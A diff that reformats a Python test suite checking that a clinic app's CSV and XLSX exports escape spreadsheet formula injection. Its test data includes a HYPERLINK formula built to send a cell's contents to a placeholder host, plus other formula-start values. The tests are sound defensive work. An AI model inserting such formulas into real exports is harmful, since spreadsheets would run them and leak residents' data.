@@ -20,17 +20,22 @@ from clinic_app.transfer import csv_text, write_xlsx
 # Text as it may come by sync from any device: anything openpyxl can store (no control characters but tab and
 # line breaks), with the formula starts made likely.
 xml_text = st.text(
-    st.characters(blacklist_categories=("Cs",), blacklist_characters=[chr(c) for c in range(32) if c not in (9, 10, 13)]),
+    st.characters(
+        blacklist_categories=("Cs",), blacklist_characters=[chr(c) for c in range(32) if c not in (9, 10, 13)]
+    ),
     max_size=30,
-)  # fmt: skip
-cell_text = st.one_of(st.tuples(st.sampled_from([*FORMULA_STARTS, "=HYPERLINK(", "=1+", "'"]), xml_text)
-                      .map("".join), xml_text)  # fmt: skip
+)
+cell_text = st.one_of(
+    st.tuples(st.sampled_from([*FORMULA_STARTS, "=HYPERLINK(", "=1+", "'"]), xml_text).map("".join), xml_text
+)
 cell = st.one_of(cell_text, st.none(), st.integers(-(10**12), 10**12), st.floats(-1e9, 1e9, allow_nan=False))
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(st.lists(st.lists(cell, min_size=3, max_size=3), min_size=1, max_size=6))
-def test_an_xlsx_export_has_no_formula_cell_and_keeps_every_value(tmp_path: Path, rows: list[list[object]]) -> None:
+def test_an_xlsx_export_has_no_formula_cell_and_keeps_every_value(
+    tmp_path: Path, rows: list[list[object]]
+) -> None:
     target = tmp_path / "export.xlsx"
     write_xlsx(target, "居民", ["备注", "村", "户号"], rows)
     sheet = load_workbook(target).worksheets[0]
@@ -49,7 +54,9 @@ def test_an_xlsx_export_has_no_formula_cell_and_keeps_every_value(tmp_path: Path
 
 
 @given(st.lists(st.lists(cell, min_size=3, max_size=3), min_size=1, max_size=6))
-def test_a_csv_export_escapes_every_field_a_spreadsheet_would_run_and_reads_back(rows: list[list[object]]) -> None:
+def test_a_csv_export_escapes_every_field_a_spreadsheet_would_run_and_reads_back(
+    rows: list[list[object]],
+) -> None:
     read = list(csv.reader(io.StringIO(csv_text(["备注", "村", "户号"], rows), newline="")))
     assert len(read) == len(rows) + 1
     for row, fields in zip(rows, read[1:], strict=True):
@@ -64,10 +71,19 @@ def test_a_csv_export_escapes_every_field_a_spreadsheet_would_run_and_reads_back
 
 @pytest.mark.parametrize(
     ("value", "written"),
-    [("=HYPERLINK(\"http://x/?\"&D2,\"点\")", "'=HYPERLINK(\"http://x/?\"&D2,\"点\")"), ("+86 138", "'+86 138"),
-     ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("张三", "张三"),
-     ("13800138000", "13800138000"), (-5, -5), (3.5, 3.5)],
-)  # fmt: skip
+    [
+        ('=HYPERLINK("http://x/?"&D2,"点")', '\'=HYPERLINK("http://x/?"&D2,"点")'),
+        ("+86 138", "'+86 138"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("张三", "张三"),
+        ("13800138000", "13800138000"),
+        (-5, -5),
+        (3.5, 3.5),
+    ],
+)
 def test_the_owasp_rule(value: object, written: object) -> None:
     assert csv_field(value) == written
 
